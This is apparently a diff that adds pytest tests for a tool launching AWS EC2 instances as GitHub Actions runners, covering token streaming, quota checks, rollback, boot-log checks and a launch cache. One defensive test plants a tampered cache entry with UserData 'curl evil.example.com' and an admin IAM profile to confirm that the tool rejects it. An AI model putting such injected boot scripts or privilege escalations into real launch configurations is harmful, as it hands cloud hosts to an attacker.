@@ -1,9 +1,22 @@
+import base64
+import json
 import pytest
+import threading
 from moto import mock_aws
 from moto.ec2.models import ec2_backends
 import boto3
+import responses
+from gha_runner.gh import GitHubInstance, TokenRetrievalError
 from unittest.mock import call, patch, mock_open, Mock
-from start_aws_gha_runner.start import StartAWS
+from start_aws_gha_runner.start import (
+    RunnerBootError,
+    EXPIRY_TAG,
+    LABEL_TAG,
+    REPO_TAG,
+    RUN_ID_TAG,
+    StartAWS,
+    quota_code,
+)
 from botocore.exceptions import WaiterError, ClientError
 
 
@@ -406,3 +419,472 @@ def test_set_instance_mapping(aws, monkeypatch):
         call("mock_output_file", "a"),
         call("mock_output_file", "a"),
     ]
+
+
+@pytest.fixture(scope="function")
+def aws_streaming():
+    with mock_aws():
+        params = {
+            "image_id": "ami-0772db4c976d21e9b",
+            "instance_type": "t2.micro",
+            "region_name": "us-east-1",
+            "github": GitHubInstance(
+                token="testing", repo="omsf-eco-infra/awsinfratesting"
+            ),
+            "runner_count": 3,
+            "home_dir": "/home/ec2-user",
+            "runner_release": "testing",
+            "repo": "omsf-eco-infra/awsinfratesting",
+        }
+        yield StartAWS(**params)
+
+
+@responses.activate
+def test_create_instances_streaming(aws_streaming):
+    responses.add(
+        responses.POST,
+        "https://api.github.com/repos/omsf-eco-infra/awsinfratesting/actions/runners/registration-token",
+        json={"token": "testing"},
+    )
+    ids = aws_streaming.create_instances()
+    assert len(ids) == 3
+    assert len(responses.calls) == 3
+
+
+@responses.activate
+def test_create_instances_streaming_overlaps(aws_streaming):
+    launched = threading.Event()
+    waited = []
+    lock = threading.Lock()
+
+    def token_callback(request):
+        with lock:
+            idx = len(waited)
+            waited.append(None)
+        # Every token after the first is held back until an instance has
+        # started launching, which only happens if launches do not wait for
+        # all of the tokens
+        if idx > 0:
+            waited[idx] = launched.wait(timeout=5)
+        return (200, {}, json.dumps({"token": "testing"}))
+
+    responses.add_callback(
+        responses.POST,
+        "https://api.github.com/repos/omsf-eco-infra/awsinfratesting/actions/runners/registration-token",
+        callback=token_callback,
+    )
+    launch = aws_streaming._launch_instance
+
+    def launch_and_signal(*args):
+        launched.set()
+        return launch(*args)
+
+    with patch.object(
+        aws_streaming, "_launch_instance", side_effect=launch_and_signal
+    ):
+        ids = aws_streaming.create_instances()
+    assert len(ids) == 3
+    assert waited[1:] == [True, True]
+
+
+@responses.activate
+def test_create_instances_streaming_token_error(aws_streaming):
+    responses.add(
+        responses.POST,
+        "https://api.github.com/repos/omsf-eco-infra/awsinfratesting/actions/runners/registration-token",
+        status=500,
+    )
+    with pytest.raises(TokenRetrievalError):
+        aws_streaming.create_instances()
+
+
+def test_create_instances_streaming_no_count(aws_streaming):
+    aws_streaming.runner_count = 0
+    with pytest.raises(
+        ValueError,
+        match="No GitHub runner tokens provided, cannot create instances.",
+    ):
+        aws_streaming.create_instances()
+
+
+def test_stream_runner_tokens_prefers_provided(aws_streaming):
+    aws_streaming.gh_runner_tokens = ["a", "b"]
+    assert list(aws_streaming._stream_runner_tokens()) == ["a", "b"]
+
+
+def test_create_instances_runner_tags(aws, monkeypatch):
+    monkeypatch.setenv("GITHUB_RUN_ID", "1234")
+    aws.tags = [{"Key": "Name", "Value": "test"}]
+    ids = aws.create_instances()
+    ec2 = boto3.client("ec2", region_name="us-east-1")
+    out = ec2.describe_instances(InstanceIds=list(ids))
+    instance = out["Reservations"][0]["Instances"][0]
+    tags = {t["Key"]: t["Value"] for t in instance["Tags"]}
+    assert tags["Name"] == "test"
+    assert tags[RUN_ID_TAG] == "1234"
+    assert tags[REPO_TAG] == "omsf-eco-infra/awsinfratesting"
+    assert tags[LABEL_TAG] == ids[instance["InstanceId"]]
+    assert EXPIRY_TAG in tags
+
+
+@pytest.mark.parametrize(
+    "instance_type, code",
+    [
+        ("t2.micro", "L-1216C47A"),
+        ("inf1.xlarge", "L-1945791B"),
+        ("i3.large", "L-1216C47A"),
+        ("g4dn.xlarge", "L-DB2E81BA"),
+        ("trn1.2xlarge", "L-2C3B7624"),
+        ("mac1.metal", None),
+        ("u-6tb1.metal", None),
+    ],
+)
+def test_quota_code(instance_type, code):
+    assert quota_code(instance_type) == code
+
+
+def _quota_client(value):
+    mock_quotas = Mock()
+    mock_quotas.get_service_quota.return_value = {"Quota": {"Value": value}}
+    return mock_quotas
+
+
+def test_check_capacity(aws):
+    ec2 = boto3.client("ec2", region_name="us-east-1")
+    # t2.micro has a single vCPU
+    aws._check_capacity(ec2, _quota_client(5.0), 5)
+
+
+def test_check_capacity_counts_running(aws):
+    ec2 = boto3.client("ec2", region_name="us-east-1")
+    ec2.run_instances(
+        ImageId="ami-0772db4c976d21e9b",
+        InstanceType="t2.micro",
+        MinCount=2,
+        MaxCount=2,
+    )
+    with pytest.raises(RuntimeError, match="needs 4 vCPUs but only 3"):
+        aws._check_capacity(ec2, _quota_client(5.0), 4)
+
+
+def test_check_capacity_ignores_spot(aws):
+    ec2 = boto3.client("ec2", region_name="us-east-1")
+    ec2.run_instances(
+        ImageId="ami-0772db4c976d21e9b",
+        InstanceType="t2.micro",
+        MinCount=4,
+        MaxCount=4,
+        InstanceMarketOptions={"MarketType": "spot"},
+    )
+    # Spot instances use their own quota so the on-demand one is all free
+    aws._check_capacity(ec2, _quota_client(5.0), 5)
+
+
+def test_check_capacity_quota_unavailable(aws):
+    ec2 = boto3.client("ec2", region_name="us-east-1")
+    mock_quotas = Mock()
+    mock_quotas.get_service_quota.side_effect = ClientError(
+        error_response={"Error": {"Code": "AccessDenied"}},
+        operation_name="GetServiceQuota",
+    )
+    # This should only warn since AWS still enforces the quota at launch
+    aws._check_capacity(ec2, mock_quotas, 1000)
+
+
+def test_check_capacity_usage_unavailable(aws, capsys):
+    mock_client = Mock()
+    denied = ClientError(
+        error_response={"Error": {"Code": "UnauthorizedOperation"}},
+        operation_name="DescribeInstanceTypes",
+    )
+
+    def get_paginator(name):
+        paginator = Mock()
+        if name == "describe_instance_types":
+            paginator.paginate.side_effect = denied
+        else:
+            paginator.paginate.return_value = [{"Reservations": []}]
+        return paginator
+
+    mock_client.get_paginator.side_effect = get_paginator
+    # This should only warn since AWS still enforces the quota at launch
+    aws._check_capacity(mock_client, _quota_client(5.0), 1000)
+    assert "::warning title=Skipping vCPU quota check::" in (
+        capsys.readouterr().out
+    )
+
+
+def test_create_instances_preflight_failure(aws):
+    aws.gh_runner_tokens = ["testing"] * 3
+    with patch.object(
+        aws, "_check_capacity", side_effect=RuntimeError("quota")
+    ):
+        with pytest.raises(RuntimeError, match="quota"):
+            aws.create_instances()
+    ec2 = boto3.client("ec2", region_name="us-east-1")
+    assert ec2.describe_instances()["Reservations"] == []
+
+
+def test_create_instances_rollback(aws):
+    aws.gh_runner_tokens = ["testing"] * 3
+    launch = aws._launch_instance
+    calls = []
+
+    def flaky_launch(*args):
+        calls.append(args)
+        if len(calls) == 2:
+            raise ClientError(
+                error_response={"Error": {"Code": "VcpuLimitExceeded"}},
+                operation_name="RunInstances",
+            )
+        return launch(*args)
+
+    aws.max_workers = 1
+    with patch.object(aws, "_launch_instance", side_effect=flaky_launch):
+        with pytest.raises(ClientError, match="VcpuLimitExceeded"):
+            aws.create_instances()
+    ec2 = boto3.client("ec2", region_name="us-east-1")
+    states = [
+        instance["State"]["Name"]
+        for reservation in ec2.describe_instances()["Reservations"]
+        for instance in reservation["Instances"]
+    ]
+    assert len(states) == 2
+    assert all(state == "terminated" for state in states)
+
+
+def _console_client(*chunks):
+    mock_client = Mock()
+    outputs = []
+    console = ""
+    for chunk in chunks:
+        console += chunk
+        # boto3 decodes the console output, so it is plain text
+        outputs.append({"Output": console})
+    mock_client.get_console_output.side_effect = outputs
+    return mock_client
+
+
+def test_read_console_output_incremental(aws):
+    mock_client = _console_client("first\nsec", "ond\nthird\n")
+    new, _ = aws._read_console_output(mock_client, "i-1")
+    assert new == "first\n"
+    new, console = aws._read_console_output(mock_client, "i-1")
+    assert new == "second\nthird\n"
+    assert console == "first\nsecond\nthird\n"
+
+
+def test_read_console_output_rolling_window(aws):
+    # EC2 only returns the last 64 KB of the console output
+    size = 64 * 1024
+    line = "x" * 63 + "\n"
+    window = line * (size // len(line))
+    failure = "curl: (6) Could not resolve host: github.com\n"
+    rolled = window[len(failure) :] + failure
+    mock_client = Mock()
+    mock_client.get_console_output.side_effect = [
+        {"Output": window},
+        {"Output": rolled},
+    ]
+    aws._read_console_output(mock_client, "i-1")
+    new, _ = aws._read_console_output(mock_client, "i-1")
+    assert failure in new
+
+
+def test_read_console_output_repeated_block(aws):
+    # The anchor is taken from a block that is repeated later on
+    block = "progress ...\n" * 100
+    failure = "curl: (6) Could not resolve host: github.com\n"
+    first = "boot\n" + block
+    mock_client = Mock()
+    mock_client.get_console_output.side_effect = [
+        {"Output": first},
+        {"Output": first + failure + block},
+    ]
+    aws._read_console_output(mock_client, "i-1")
+    new, _ = aws._read_console_output(mock_client, "i-1")
+    assert failure in new
+
+
+def test_check_boot(aws):
+    ids = aws.create_instances()
+    # The moto console output contains no failures
+    aws.check_boot(list(ids))
+
+
+def test_check_boot_failure(aws):
+    mock_client = _console_client(
+        "booting\n",
+        "curl: (6) Could not resolve host: github.com\n",
+    )
+    with patch("boto3.client", return_value=mock_client):
+        aws.check_boot(["i-1"])
+        with pytest.raises(RunnerBootError) as exc_info:
+            aws.check_boot(["i-1"])
+    assert exc_info.value.instance_id == "i-1"
+    assert exc_info.value.tail == (
+        "booting\ncurl: (6) Could not resolve host: github.com"
+    )
+
+
+def test_check_boot_client_error(aws, capsys):
+    mock_client = Mock()
+    mock_client.get_console_output.side_effect = ClientError(
+        error_response={"Error": {"Code": "RequestLimitExceeded"}},
+        operation_name="GetConsoleOutput",
+    )
+    with patch("boto3.client", return_value=mock_client) as client:
+        aws.check_boot(["i-1", "i-2"])
+        aws.check_boot(["i-1", "i-2"])
+    # The client is only created once across polls
+    client.assert_called_once()
+    out = capsys.readouterr().out
+    # Each instance is only warned about once
+    assert out.count("::warning title=Skipping boot check for i-1::") == 1
+    assert out.count("::warning title=Skipping boot check for i-2::") == 1
+
+
+def test_check_boot_access_denied(aws, capsys):
+    mock_client = Mock()
+    mock_client.get_console_output.side_effect = ClientError(
+        error_response={"Error": {"Code": "UnauthorizedOperation"}},
+        operation_name="GetConsoleOutput",
+    )
+    with patch("boto3.client", return_value=mock_client):
+        aws.check_boot(["i-1", "i-2"])
+        aws.check_boot(["i-1", "i-2"])
+    # The boot check is turned off after the first denied call
+    mock_client.get_console_output.assert_called_once()
+    out = capsys.readouterr().out
+    assert out.count("::warning title=Skipping boot checks::") == 1
+
+
+def test_create_instances_launch_cache(aws_latest_ami, tmp_path):
+    aws_latest_ami.launch_cache = str(tmp_path)
+    aws_latest_ami.root_device_size = 100
+    aws_latest_ami.create_instances()
+    image_id = aws_latest_ami.image_id
+    assert len(list(tmp_path.iterdir())) == 1
+    # A second launch with the same configuration skips the describe calls
+    aws_latest_ami.image_id = "latest"
+    with patch.object(aws_latest_ami, "_compile_launch_spec") as compile:
+        ids = aws_latest_ami.create_instances()
+    compile.assert_not_called()
+    assert len(ids) == 1
+    assert aws_latest_ami.image_id == image_id
+
+
+def test_launch_cache_only_holds_resolved_values(aws_latest_ami, tmp_path):
+    aws_latest_ami.launch_cache = str(tmp_path)
+    aws_latest_ami.root_device_size = 100
+    aws_latest_ami.create_instances()
+    (path,) = tmp_path.iterdir()
+    spec = json.loads(path.read_text())["spec"]
+    assert set(spec) == {"ImageId", "BlockDeviceMappings"}
+
+
+def test_launch_cache_ignores_tampered_spec(aws, tmp_path, capsys):
+    aws.launch_cache = str(tmp_path)
+    aws.create_instances()
+    (path,) = tmp_path.iterdir()
+    entry = json.loads(path.read_text())
+    entry["spec"]["UserData"] = "#!/bin/bash\ncurl evil.example.com"
+    entry["spec"]["IamInstanceProfile"] = {"Name": "admin"}
+    path.write_text(json.dumps(entry))
+    with patch.object(
+        aws, "_compile_launch_spec", wraps=aws._compile_launch_spec
+    ) as compile:
+        aws.create_instances()
+    compile.assert_called_once()
+    assert "Ignoring invalid cached launch spec" in capsys.readouterr().out
+    entry = json.loads(path.read_text())
+    assert set(entry["spec"]) == {"ImageId"}
+
+
+def test_launch_cache_uses_current_user_data(aws, tmp_path):
+    aws.launch_cache = str(tmp_path)
+    aws.create_instances()
+    # The script is not part of the cache, so a change is picked up at once
+    aws.script = "echo changed"
+    ids = aws.create_instances()
+    ec2 = boto3.client("ec2", region_name="us-east-1")
+    id = list(ids)[0]
+    out = ec2.describe_instance_attribute(InstanceId=id, Attribute="userData")
+    user_data = base64.b64decode(out["UserData"]["Value"]).decode()
+    assert 'echo "echo changed"' in user_data
+
+
+def test_launch_instance_user_data(aws):
+    ids = aws.create_instances()
+    ec2 = boto3.client("ec2", region_name="us-east-1")
+    id = list(ids)[0]
+    out = ec2.describe_instance_attribute(InstanceId=id, Attribute="userData")
+    user_data = base64.b64decode(out["UserData"]["Value"]).decode()
+    assert "--token testing" in user_data
+    assert f"--labels {ids[id]}" in user_data
+
+
+def test_create_instances_rollback_terminate_error(aws, capsys):
+    aws.gh_runner_tokens = ["testing"] * 2
+    launch = aws._launch_instance
+    calls = []
+
+    def flaky_launch(*args):
+        calls.append(args)
+        if len(calls) == 2:
+            raise ClientError(
+                error_response={"Error": {"Code": "VcpuLimitExceeded"}},
+                operation_name="RunInstances",
+            )
+        return launch(*args)
+
+    aws.max_workers = 1
+    aws.preflight = False
+    client = boto3.client("ec2", region_name="us-east-1")
+    with (
+        patch.object(aws, "_launch_instance", side_effect=flaky_launch),
+        patch.object(
+            client,
+            "terminate_instances",
+            side_effect=ClientError(
+                error_response={"Error": {"Code": "UnauthorizedOperation"}},
+                operation_name="TerminateInstances",
+            ),
+        ),
+        patch("boto3.client", return_value=client),
+    ):
+        # The launch error is raised rather than the terminate error
+        with pytest.raises(ClientError, match="VcpuLimitExceeded"):
+            aws.create_instances()
+    out = capsys.readouterr().out
+    assert "::error title=Failed to remove instances" in out
+    reservations = client.describe_instances()["Reservations"]
+    surviving = reservations[0]["Instances"][0]["InstanceId"]
+    assert surviving in out
+
+
+def test_create_instances_stale_launch_cache(aws, tmp_path):
+    aws.launch_cache = str(tmp_path)
+    aws.gh_runner_tokens = ["testing"] * 2
+    aws.create_instances()
+    # Point the cached spec at an AMI that has since been deregistered
+    (path,) = tmp_path.iterdir()
+    entry = json.loads(path.read_text())
+    entry["spec"]["ImageId"] = "ami-deadbeef"
+    path.write_text(json.dumps(entry))
+    launch = aws._launch_instance
+
+    def launch_checking_ami(client, token, spec):
+        if spec["ImageId"] == "ami-deadbeef":
+            raise ClientError(
+                error_response={"Error": {"Code": "InvalidAMIID.NotFound"}},
+                operation_name="RunInstances",
+            )
+        return launch(client, token, spec)
+
+    with patch.object(aws, "_launch_instance", side_effect=launch_checking_ami):
+        ids = aws.create_instances()
+    assert len(ids) == 2
+    assert aws.image_id == "ami-0772db4c976d21e9b"
+    entry = json.loads(path.read_text())
+    assert entry["spec"]["ImageId"] == "ami-0772db4c976d21e9b"